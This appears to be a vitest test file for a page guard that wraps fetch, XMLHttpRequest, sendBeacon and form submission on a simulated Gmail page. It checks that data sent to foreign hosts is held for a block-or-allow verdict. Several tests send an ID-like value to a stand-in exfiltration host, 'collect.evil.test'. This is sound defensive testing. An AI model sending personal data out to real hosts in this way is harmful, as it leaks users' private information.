/**
 * The page hooks' wrappers (lib/guard/page-hooks.ts) in happy-dom. The "network" is the native functions, replaced
 * before the hooks install by recorders: what reaches them is what would have left the page. The channel is a
 * stand-in relay that records what it is asked and answers with a fixed verdict.
 */
import { Window as HappyWindow } from 'happy-dom';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { PageChannel, Verdict } from '../../../lib/guard/hook-channel.ts';
import { installPageHooks } from '../../../lib/guard/page-hooks.ts';
import { siteRulesForHost } from '../../../lib/sites/rules.ts';

type Win = Window & typeof globalThis;
const NN = '85.07.30-033.28';
const EVIL = 'https://collect.evil.test/c';

let win: Win;
let network: { via: string; url: string; body?: unknown }[];
let asked: Parameters<PageChannel['check']>[0][];
let verdict: Verdict;
let later: ((v: Verdict) => void)[];
let deferred: boolean;

beforeEach(() => {
  win = new HappyWindow({ url: 'https://mail.google.com/mail/u/0/' }) as unknown as Win;
  network = [];
  asked = [];
  verdict = 'block';
  later = [];
  deferred = false;
  win.fetch = (async (input: unknown, init?: RequestInit) => {
    network.push({ via: 'fetch', url: String(input instanceof win.Request ? input.url : input), body: init?.body });
    return new win.Response('ok');
  }) as typeof fetch;
  const xhrState = new WeakMap<object, string>();
  win.XMLHttpRequest.prototype.open = function (this: XMLHttpRequest, _m: string, url: string | URL) {
    xhrState.set(this, String(url));
  } as XMLHttpRequest['open'];
  win.XMLHttpRequest.prototype.send = function (this: XMLHttpRequest, body?: unknown) {
    network.push({ via: 'xhr', url: xhrState.get(this)!, body });
  };
  win.Navigator.prototype.sendBeacon = function (url: string | URL, body?: unknown) {
    network.push({ via: 'beacon', url: String(url), body });
    return true;
  };
  win.HTMLFormElement.prototype.submit = function (this: HTMLFormElement) {
    network.push({ via: 'form', url: this.action });
  };
  const channel: PageChannel = {
    connected: () => true,
    check(request, done) {
      asked.push(request);
      if (deferred && !request.sync) later.push(done);
      else done(verdict);
    },
  };
  installPageHooks(win, channel, siteRulesForHost('mail.google.com'));
});

describe('fetch', () => {
  it("lets the site's own requests and bodiless ones through at once, without a check", async () => {
    await win.fetch('/sync/u/0/i/s', { method: 'POST', body: `nn=${NN}` });
    await win.fetch('https://people-pa.clients6.google.com/v2/people', { method: 'POST', body: NN });
    await win.fetch(EVIL);
    expect(asked).toEqual([]);
    expect(network.map((n) => n.url)).toEqual(['/sync/u/0/i/s', 'https://people-pa.clients6.google.com/v2/people', EVIL]);
  });

  it('holds a foreign request for the check; blocked, it rejects like a network error and nothing leaves', async () => {
    await expect(win.fetch(EVIL, { method: 'post', body: JSON.stringify({ nn: NN }) })).rejects.toThrow(TypeError);
    expect(asked).toEqual([{ via: 'fetch', method: 'POST', url: EVIL, body: `{"nn":"${NN}"}`, sync: false }]);
    expect(network).toEqual([]);
  });

  it('sends the request untouched once the verdict allows it', async () => {
    deferred = true;
    const body = new win.URLSearchParams({ nn: NN });
    const pending = win.fetch(EVIL, { method: 'POST', body });
    await Promise.resolve();
    expect(network).toEqual([]); // held
    later[0]!('allow');
    await pending;
    expect(network).toEqual([{ via: 'fetch', url: EVIL, body }]);
    expect(asked[0]?.body).toBe('nn=85.07.30-033.28');
  });

  it("reads a Request's own body and a Blob body before asking", async () => {
    await expect(win.fetch(new win.Request(EVIL, { method: 'POST', body: `nn=${NN}` }))).rejects.toThrow(TypeError);
    await expect(win.fetch(EVIL, { method: 'POST', body: new win.Blob([`nn=${NN}`]) })).rejects.toThrow(TypeError);
    expect(asked.map((a) => a.body)).toEqual([`nn=${NN}`, `nn=${NN}`]);
    expect(network).toEqual([]);
  });

  it('still reads as a native function', () => {
    expect(Function.prototype.toString.call(win.fetch)).toContain('[native code]');
  });
});

describe('XMLHttpRequest', () => {
  it('fails a blocked request on a dead blob: URL instead of sending it', () => {
    const xhr = new win.XMLHttpRequest();
    xhr.open('POST', EVIL);
    xhr.send(JSON.stringify({ nn: NN }));
    expect(asked).toHaveLength(1);
    expect(network).toEqual([{ via: 'xhr', url: expect.stringMatching(/^blob:/), body: undefined }]);
  });

  it('sends an allowed one as it was', () => {
    verdict = 'allow';
    const xhr = new win.XMLHttpRequest();
    xhr.open('POST', EVIL);
    xhr.send(`nn=${NN}`);
    expect(network).toEqual([{ via: 'xhr', url: EVIL, body: `nn=${NN}` }]);
  });

  it('decides a synchronous request during the call and throws a NetworkError when blocked', () => {
    const xhr = new win.XMLHttpRequest();
    xhr.open('POST', EVIL, false);
    expect(() => xhr.send(NN)).toThrow(/Failed to load/);
    expect(asked[0]?.sync).toBe(true);
    expect(network).toEqual([]);
  });
});

describe('sendBeacon', () => {
  it('is decided during the call: false when blocked, the native result when allowed', () => {
    expect(win.navigator.sendBeacon(EVIL, `nn=${NN}`)).toBe(false);
    expect(asked[0]).toMatchObject({ via: 'beacon', sync: true });
    expect(network).toEqual([]);
    verdict = 'allow';
    expect(win.navigator.sendBeacon(EVIL, 'event=open')).toBe(true);
    expect(network).toEqual([{ via: 'beacon', url: EVIL, body: 'event=open' }]);
  });
});

describe('form.submit()', () => {
  // In a browser the hooks and the page share one realm; here FormData must be the window's for instanceof.
  beforeEach(() => vi.stubGlobal('FormData', win.FormData));
  afterEach(() => vi.unstubAllGlobals());

  it('checks the form fields against the action host and submits only when allowed', () => {
    const form = win.document.createElement('form');
    form.action = EVIL;
    form.method = 'post';
    const input = win.document.createElement('input');
    input.name = 'nn';
    input.value = NN;
    form.append(input);
    win.document.body.append(form);
    form.submit();
    expect(asked[0]).toMatchObject({ via: 'form', method: 'POST', url: EVIL, body: `nn=${NN}` });
    expect(network).toEqual([]);
    verdict = 'allow';
    form.submit();
    expect(network).toEqual([{ via: 'form', url: EVIL }]);
  });
});
